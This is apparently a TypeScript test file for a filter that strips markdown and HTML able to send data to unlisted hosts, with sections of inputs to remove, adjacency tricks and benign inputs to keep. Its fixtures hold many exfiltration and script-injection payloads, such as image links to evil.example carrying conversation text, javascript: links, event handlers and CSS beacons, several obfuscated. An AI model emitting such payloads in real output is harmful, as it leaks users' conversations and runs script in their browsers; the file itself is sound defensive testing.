import { expect } from 'chai'
import { findingsIn, removedFrom } from './support.js'

const evil = 'https://evil.example/p'
const leak = `${evil}?q=what+you+said`

/** What is left when it is removed. */
const removed: Readonly<Record<string, readonly [text: string, left: string]>> = {
  'an image': [`See ![chart](${leak}) here.`, 'See  here.'],
  'an image without a query': [`See ![chart](${evil}.png) here.`, 'See  here.'],
  'an image with a title': [`![a](${leak} "a ) title")!`, '!'],
  'an image between angle brackets': [`![a](<${leak}>).`, '.'],
  'an image over two lines': [`![a\nb](\n${leak}\n).`, '.'],
  'an image with brackets in its description': [`![a [b] c](${leak}).`, '.'],
  'an image with spaces in its address': [`![a](${evil}?q=all that you said).`, '.'],
  'an image that does not end': [`Look: ![a](${leak}`, 'Look: '],
  'an image without a scheme': ['![a](//evil.example/x).', '.'],
  'an image with backslashes': [String.raw`![a](https:\\evil.example/x).`, '.'],
  'an image in a link': [`[![a](${evil})](https://evil.example/?q=1) b`, ' b'],
  'an image in a link that may stay': [
    `[![a](${evil})](https://other.example/docs) b`,
    '[](https://other.example/docs) b',
  ],
  'an image behind exclamation marks': [
    `Hello!!![a](${evil})[b](https://evil.example/s) c`,
    'Hello[b](https://evil.example/s) c',
  ],
  'a link': [`Read [the *docs*](${leak}).`, 'Read the *docs*.'],
  'a link with a title': [`[docs](${leak} 'more')`, 'docs'],
  'a link with data in its fragment': ['[docs](https://evil.example/#q=secret)', 'docs'],
  'a link with text in its fragment': ['[docs](https://evil.example/#all%20that%20was%20said)', 'docs'],
  'a link with encoded text in its fragment': ['[docs](https://evil.example/#amFuZSBsaXZlcyBpbiBiZXJsaW4)', 'docs'],
  'a link with a long path': [`[docs](https://evil.example/${'a1'.repeat(60)})`, 'docs'],
  'a link with text in its host': [`[docs](https://${'a1'.repeat(25)}.evil.example/)`, 'docs'],
  'a link with an encoded query': ['[docs](https://evil.example/&#63;q=1)', 'docs'],
  'a link with a user': ['[docs](https://good.example@evil.example/)', 'docs'],
  'a link that runs': ['[docs](javascript:alert(1))', 'docs'],
  'a link that runs, with signs in between': ['[docs](java\tscript:alert(1))', 'docs'],
  'a link that runs, encoded': ['[docs](&#106;avascript:alert(1))', 'docs'],
  'a link to a document in its address': ['[docs](data:text/html;base64,PHNjcmlwdD4=)', 'docs'],
  'mail with a text': ['[write](mailto:a@evil.example?body=secret)', 'write'],
  'a definition and its uses': [`![a][x] and [b][x]\n\n[x]: ${evil} "title"\nmore`, '![a][x] and [b][x]\n\n\nmore'],
  'a definition on two lines': [`> [x]:\n  <${evil}>\n`, '> \n'],
  'a definition deep in quotations': [`${'> '.repeat(20)}[x]: ${evil}`, '> '.repeat(20)],
  'a definition over two lines of a quotation': [`> [x]:\n> ${evil}`, '> '],
  'an image over two lines of a quotation': [`> ![a](\n> ${evil})`, '> '],
  'an element over two lines of a quotation': [`> <img\n> src="${evil}">`, '> '],
  'an element over lines': [`<img\n  src="${evil}"\n>x`, 'x'],
  'an address between angle brackets': [`Go to <${leak}> now`, 'Go to  now'],
  'a bare address': [`Go to ${leak}, now`, 'Go to , now'],
  'a bare address without a scheme': ['Go to www.evil.example/?q=secret now', 'Go to  now'],
  'a bare address in capitals': ['Go to HTTPS://EVIL.EXAMPLE/?q=secret now', 'Go to  now'],
  'an address in a label': [`[${leak}](https://good.example/)`, '[](https://good.example/)'],
  'an element img': [`a <img src="${leak}" alt="x > y"> b`, 'a  b'],
  'an element img without quotes': [`a <img src=${evil}> b`, 'a  b'],
  'an element img in capitals': [`a <IMG\nSRC = '${evil}' /> b`, 'a  b'],
  'an element img that does not end': [`a <img src="${leak}`, 'a '],
  'an element a': [`a <a href="${leak}">label</a>`, 'a label</a>'],
  'an element with several pictures': [
    `<picture><source srcset="x.png 1x, ${evil} 2x"></picture>`,
    '<picture></picture>',
  ],
  'an element iframe': [`<iframe src=//evil.example></iframe>`, '</iframe>'],
  'an element with a document': [`<iframe srcdoc="<img src='${evil}'>"></iframe>`, '</iframe>'],
  'an element with a style': [`<div style="background: url('${evil}')">x</div>`, 'x</div>'],
  'an element with a set of images': [`<div style='background: image-set("${evil}" 1x)'>x</div>`, 'x</div>'],
  'an element that is parted by a stroke': [`<img/src=${evil}>x`, 'x'],
  'an element that preloads': [`<link rel=dns-prefetch href=//secret.evil.example>x`, 'x'],
  'an element of any name that listens': ['<details open ontoggle=alert(1)>x</details>', 'x</details>'],
  'a cell with a background': [`<td background="${evil}">x</td>`, 'x</td>'],
  'an image with one slash and one backslash': [String.raw`![a](/\evil.example/x).`, '.'],
  'a style sheet': [`<style>p { background: url(${evil}) }</style>x`, 'x'],
  'a style sheet that imports': [`<style>@import '${evil}';</style>x`, 'x'],
  'a page that goes elsewhere': [`<meta http-equiv="refresh" content="0; url=${evil}">x`, 'x'],
  'an element video': [`<video poster="${evil}" src="a.mp4"></video>`, '</video>'],
  'a picture in SVG': [`<svg><image xlink:href="${evil}"/></svg>`, '<svg></svg>'],
  'an element that listens': ['<img src="x.png" onerror="alert(1)">x', 'x'],
  'an element base': [`<base href="${evil}">x`, 'x'],
  'a form': [`<form action="${leak}">x</form>`, 'x</form>'],
}

describe('an address that is not listed', () => {
  for (const [name, [text, left]] of Object.entries(removed))
    it(`is found and removed: ${name}`, async () => expect(await removedFrom(text)).to.equal(left))
})

describe('what stands beside something that is removed', () => {
  const other = 'ps://evil.example/?q=secret'
  for (const [name, text] of Object.entries({
    'an image in an address': `htt![a](${evil})${other}`,
    'an image in a destination': `![a](htt![b](${evil})${other})`,
    'a link in an address': `htt[ps:](${leak})//evil.example/?q=secret`,
    'an image in a tag': `<img sr![b](${evil})c=${evil}>`,
    'a link in a tag': `<img sr[c](${leak})=${evil}>`,
    'an image behind the mark of one': `!![b](${evil})[a](${evil})`,
  }))
    it(`is no address afterwards: ${name}`, async () => {
      const left = await removedFrom(text)
      expect(await findingsIn(left), left).to.deep.equal([])
      expect(left).to.not.include('?q=')
      expect(left).to.not.match(/!\[|<img/)
    })
})

describe('what may stay', () => {
  for (const [name, text] of Object.entries({
    'a link without data': '[docs](https://react.example/learn)',
    'a link to a place on a page': '[docs](https://react.example/learn#use-state)',
    'a link to a line': '[code](https://git.example/a/b.ts#L10-L20)',
    'a link to a note': '[note](https://git.example/1#note_1872536721)',
    'a method': '[MKDIR](dir: string, mode: number): void',
    'an address that is none': 'new URL(`http://localhost:${port}`)',
    'a relative image': '![chart](./chart.png?v=2)',
    'an image from the host itself': '![chart](/files/chart.png)',
    'an image in its address': '![dot](data:image/png;base64,iVBORw0KGgo=)',
    'a link to a place': '[up](#top)',
    'a number to call': '[call](tel:+49301234)',
    mail: '[write](mailto:a@b.example)',
    'an address of this machine': 'Open http://localhost:3000/?page=1',
    'code with brackets': 'const x = a[0](b); if (a <b && c> d) f[i](j)',
    generics: 'new Map<string, Array<number>>(x)',
    'names of XML': '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1"></svg>',
    notes: 'As said.[^1]\n\n[^1]: A book.',
    'a list of tasks': '- [x]: done\n- [ ] open',
    'words in brackets': 'He said [sic] (that) it is [so].',
  }))
    it(name, async () => expect(await findingsIn(text)).to.deep.equal([]))
})
